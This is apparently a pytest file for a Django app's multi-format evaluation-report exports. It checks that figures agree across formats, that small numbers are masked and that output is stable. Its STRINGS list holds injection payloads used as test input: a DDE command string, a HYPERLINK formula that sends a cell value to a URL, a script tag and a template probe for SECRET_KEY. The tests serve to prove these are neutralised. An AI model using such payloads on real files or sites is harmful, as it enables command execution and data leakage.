"""The faces of one snapshot agree to the last digit, and none of them runs what somebody typed."""

import csv
import html
import io
import json
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.utils import translation

from monitoring.figures import Period
from monitoring.indicators import INDICATORS
from reports import services
from reports.access import Template
from reports.faces import DRAW, Document, chapters, draw, methods, words
from reports.faces.layout import counts, figures
from reports.models import Edition
from reports.snapshot import digest
from tests.lapor.pdfs import faults_of, pages_of, tags_of, words_of
from tests.pages import page
from tests.reports.figures import AFTER, counted, counted_of_issue, frozen, frozen_of_issue, issue_of
from tests.world import World

FORMULA = '=HYPERLINK("http://127.0.0.1:9/"&A1,"klik")'
STRINGS = (FORMULA, "@SUM(1+1)", "+6281", "-2+3", "<script>alert(1)</script>", "{{ settings.SECRET_KEY }}", "=cmd|' /C calc'!A0")


def planned(world: World, made: Edition) -> Edition:
    """With an action plan of what should not be typed."""
    for number, text in enumerate(STRINGS, 1):
        services.add_item(made.pk, {"text": text, "owner": text[:100], "due_on": f"2026-12-0{number}"}, by=world.actor("admin"), at=AFTER)
    return made


@pytest.fixture
def edition(world: World) -> Edition:
    counted(world, world.city, world.unit)
    return planned(world, frozen(world))


@pytest.fixture(params=["micro", "issue"])
def each(world: World, request: pytest.FixtureRequest) -> Edition:
    """A report about an institution, and one about an issue that it owns."""
    counted(world, world.city, world.unit)
    if request.param == "micro":
        return planned(world, frozen(world))
    issue_of(world.city, target_indicator="followup_rate", target_value="74.50")
    counted_of_issue(world)
    return planned(world, frozen_of_issue(world))


def document(edition: Edition, *, is_masked: bool = False) -> Document:
    return services.document_of(edition, is_masked=is_masked, at=AFTER)


def from_csv(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode(), newline="")))


def flat(data: dict[str, Any]) -> dict[tuple[str, str, str], dict[str, Any]]:
    """(section, item, measure) -> the cell, of a snapshot."""
    found = {("figure", row["key"], row["key"]): row for row in data["indicators"]}
    found |= {("before", row["key"], row["key"]): row["before"] for row in data["indicators"]}
    return found | {(table["key"], row["key"], column): cell for table in data["tables"] for row in table["rows"] for column, cell in row["cells"].items()}


def test_csv_and_json_say_every_cell_of_the_snapshot(each: Edition) -> None:
    cells = flat(each.snapshot)

    said = json.loads(draw(document(each), "json", "id"))
    lines = from_csv(draw(document(each), "csv", "id"))

    assert flat(said["snapshot"]) == cells
    assert digest(said["snapshot"]) == said["edition"]["sha256"] == each.sha256
    assert set(said["dictionary"]["figures"]) == set(INDICATORS)
    read = {(line["section"], line["item"], line["measure"]): line for line in lines}
    assert len(cells) > 80
    for key, cell in cells.items():
        for part in ("value", "numerator", "denominator", "n", "low", "high", "median", "p90", "missing", "target", "light"):
            assert read[key][part] == ("" if cell.get(part) is None else str(cell[part])), (key, part)


def sheets(raw: bytes) -> dict[str, list[list[Any]]]:
    book = openpyxl.load_workbook(io.BytesIO(raw))
    return {sheet.title: [[cell.value for cell in row] for row in sheet.iter_rows()] for sheet in book.worksheets}


def test_the_spreadsheet_holds_the_same_numbers_as_numbers(each: Edition) -> None:
    raw = draw(document(each), "xlsx", "id")

    book = openpyxl.load_workbook(io.BytesIO(raw))
    assert all(sheet.freeze_panes == "B2" for sheet in book.worksheets)
    with translation.override("id"):
        summary = str(translation.gettext("Summary"))
        titles = {key: str(name)[:31] for key, name in words.TABLES.items()}
    read = sheets(raw)
    rows = {row[-1]: row for row in read[summary][1:]}
    for figure in each.snapshot["indicators"]:
        row = rows[figure["key"]]
        if figure["value"] is None:
            assert isinstance(row[1], str)
        else:
            assert isinstance(row[1], int | float)
            assert f"{row[1]:.2f}" == f"{float(figure['value']):.2f}"
        assert row[3] == figure.get("numerator")
        assert row[4] == figure.get("denominator")
    for table in each.snapshot["tables"]:
        if table["rows"]:
            lines = {line[-1]: line for line in read[titles[table["key"]]][1:]}
            for row in table["rows"]:
                told = [row["cells"][column]["value"] for column in table["columns"]]
                assert [None if isinstance(cell, str) else cell for cell in lines[row["key"] or None][1:-1]] == [
                    None if value is None else float(value) for value in told
                ]


def test_what_was_typed_is_text_in_every_file(each: Edition) -> None:
    raw = draw(document(each), "xlsx", "id")
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        xml = "".join(archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/"))
    assert "<f>" not in xml
    assert "hyperlink" not in xml.lower().replace("=hyperlink", "")
    book = openpyxl.load_workbook(io.BytesIO(raw))
    typed = {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "s"}
    assert set(STRINGS) <= typed
    assert not [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]

    cells = [cell for line in csv.reader(io.StringIO(draw(document(each), "csv", "id").decode(), newline="")) for cell in line]
    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r|")]
    said = words_of(draw(document(each), "pdf", "id")).replace(" ", "")
    assert [text for text in STRINGS if text.replace(" ", "") not in said] == []


@pytest.mark.parametrize("language", ["id", "en"])
def test_paper_and_page_show_the_same_figures_in_the_language_asked(
    world: World, client: Client, clock: Any, each: Edition, settings: Any, language: str
) -> None:
    clock.move_to(AFTER)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
    pdf = words_of(draw(document(each), "pdf", language)).replace(" ", "")
    answer = page(world.login(client, "national").get(f"/meja/evaluasi/{each.pk}/"))
    said = " ".join(html.unescape(answer).split()).replace(" ", "")

    with translation.override(language):
        cells = [cell.text for chapter in chapters(document(each)) for table in chapter.tables for row in table.rows for cell in row.cells if cell.text]
        assert words.number("1234.50") == {"id": "1.234,50", "en": "1,234.50"}[language]
    assert len(cells) > 150
    assert [text for text in cells if "".join(text.split()) not in pdf] == []
    assert [text for text in cells if "".join(text.split()) not in said] == []
    assert {"id": "78,38%", "en": "78.38%"}[language] in pdf


def test_the_pdf_is_tagged_has_pages_and_passes_the_checker(world: World, each: Edition, tmp_path: Path) -> None:
    for kind in ("pdf",):
        raw = draw(document(each), kind, "id")
        assert raw == draw(document(each), kind, "id")
        assert faults_of(raw, tmp_path) == ""
        tags = [tag for tag, _element in tags_of(raw)]
        assert {"H1", "H2", "H3", "TH", "TD"} <= set(tags)
        assert pages_of(raw) >= 5
        assert each.sha256 in words_of(raw).replace(" ", "")


@pytest.mark.night
def test_the_pdf_passes_the_thorough_checker(each: Edition, tmp_path: Path) -> None:
    # A table of one line with headings both ways has more headings than cells, which is taken for headings that were torn apart.
    assert faults_of(draw(document(each), "pdf", "id"), tmp_path, thoroughly=True, skip="TBL-010") == ""


@pytest.mark.parametrize(("language", "title", "formula"), [
    ("id", "Laporan evaluasi Triwulan 3 2026: Kota Uji", "tenggat dipenuhi (Pemeriksaan oleh meja nasional, Pemeriksaan oleh instansi)"),
    ("en", "Evaluation report Quarter 3 of 2026: Kota Uji", "deadlines met (Check by the national desk, Check by the institution)"),
])  # fmt: skip
def test_periods_and_formulas_are_said_in_words(edition: Edition, language: str, title: str, formula: str) -> None:
    said = words_of(draw(document(edition), "pdf", language))

    assert title in said
    assert formula.replace(" ", "") in said.replace(" ", "")
    assert "verify_national" not in said


@pytest.mark.parametrize(("language", "n", "said"), [("en", "1", "1 report"), ("en", "2", "2 reports"), ("en", "0", "0 reports"), ("id", "1", "1 laporan")])
def test_one_report_is_no_reports(language: str, n: str, said: str) -> None:
    row = {"key": "received", "value": n, "before": {"value": n}}
    with translation.override(language):
        table = figures({"indicators": [row]}, ("received",))

    assert table is not None
    assert [table.rows[0].cells[place].text for place in (0, 2)] == [said, said]


def test_the_summary_draws_the_figures_beside_their_targets(edition: Edition) -> None:
    with translation.override("id"):
        summary = next(chapter for chapter in chapters(document(edition)) if chapter.number == 2)

    assert "Tindak lanjut (%TL): 78,38\xa0% (Target: 80\xa0%)" in summary.tables[0].chart


@pytest.mark.parametrize(("dim", "said"), [("topic", "Belum bertopik"), ("region", "Tempat tidak diketahui"), ("channel", "Tidak disebutkan")])
def test_what_a_report_has_not_been_given_is_not_taken_for_hidden(dim: str, said: str) -> None:
    with translation.override("id"):
        assert words.row_name({"key": f"{dim}s", "dim": dim}, {"key": ""}) == said


def test_rows_stand_in_their_own_order_or_by_how_many_they_are() -> None:
    def names(dim: str, column: str, found: dict[str, int | None]) -> list[str]:
        rows = [{"key": key, "cells": {column: {"value": n if n is None else str(n)}}} for key, n in found.items()]
        key = {"clock": "clocks", "reason": "pend_reasons", "band": "bands"}[dim]
        return [row.name for row in counts({"key": key, "dim": dim, "columns": [column], "rows": rows}).rows]

    with translation.override("en"):
        assert names("clock", "met", {"first_response": 1, "verify_national": 2}) == ["Check by the national desk", "Initial response"]
        assert names("reason", "pended", {"evidence_needed": None, "incomplete": 4, "unclear_place": 9}) == [
            "The place is not clear", "Minimum information is missing", "Evidence is needed",
        ]  # fmt: skip
        assert names("band", "open", {"0-5": 1}) == ["0\N{EN DASH}5"]


def test_a_list_for_the_ombudsman_explains_the_figures_that_it_shows(world: World) -> None:
    made = services.generate(Template.OVER_60, world.nation, Period.parse("2026-09"), by=world.actor("national"), at=AFTER)

    with translation.override("id"):
        assert [row["key"] for row in methods(document(made))] == ["over_60", "open_over_60"]


def test_nothing_received_for_a_year_draws_no_line(world: World) -> None:
    made = frozen(world)

    with translation.override("id"):
        trend = next(table for chapter in chapters(document(made)) for table in chapter.tables if table.key == "trend")
    assert len(trend.rows) == 12
    assert trend.chart == ""


def test_whoever_signs_is_named_in_the_language_asked(edition: Edition) -> None:
    said = document(edition)

    with translation.override("en"):
        assert str(said.signer["position"]).startswith("Accountable official")
    with translation.override("id"):
        assert str(said.signer["position"]).startswith("Penanggung jawab")


def test_a_house_that_has_just_begun_pins_nothing(edition: Edition) -> None:
    with translation.override("id"):
        facts = {chapter.number: dict(chapter.facts) for chapter in chapters(document(edition))}[1]

    assert facts["Buku besar"] == "belum ada peristiwa yang cukup lama untuk disematkan"


def test_days_are_days_in_the_spreadsheet(edition: Edition) -> None:
    read = sheets(draw(document(edition), "xlsx", "id"))

    assert read["Rencana aksi"][1][2] == datetime(2026, 12, 1)  # noqa: DTZ001 - a spreadsheet knows no zones


def test_every_file_of_the_same_document_is_the_same_bytes(each: Edition) -> None:
    for kind in DRAW:
        assert draw(document(each), kind, "id") == draw(document(each), kind, "id"), kind


def test_every_figure_of_the_table_stands_in_a_chapter(edition: Edition) -> None:
    with translation.override("en"):
        shown = {row.name for chapter in chapters(document(edition)) for table in chapter.tables if table.kind == "figures" for row in table.rows}
        assert shown == {str(row.name) for row in INDICATORS.values()}


def test_a_hub_reads_no_small_cell_no_number_and_no_sum(world: World, edition: Edition) -> None:
    masked = document(edition, is_masked=True)

    data = json.loads(draw(masked, "json", "id"))["snapshot"]
    ages = [[bool(table.chart) for chapter in chapters(copy) for table in chapter.tables if table.key == "bands"] for copy in (document(edition), masked)]
    assert ages == [[True], [False]]  # shares of what is told alone would be wrong

    assert "recorded" not in data
    assert data["over_60"]["listed"] == []
    for cell in flat(data).values():
        if "denominator" in cell and cell["value"] is not None:
            assert not 0 < cell["denominator"] < 10
    tracks = next(table for table in data["tables"] if table["key"] == "channels")
    assert {row["key"]: row["cells"]["received"]["value"] for row in tracks["rows"]} == {"web": "30", "whatsapp": "10"}
    stars = next(table for table in data["tables"] if table["key"] == "stars")
    assert {row["cells"]["rated"]["value"] for row in stars["rows"]} == {None}
    assert "recorded" in edition.snapshot
    for kind in DRAW:
        assert draw(masked, kind, "id")
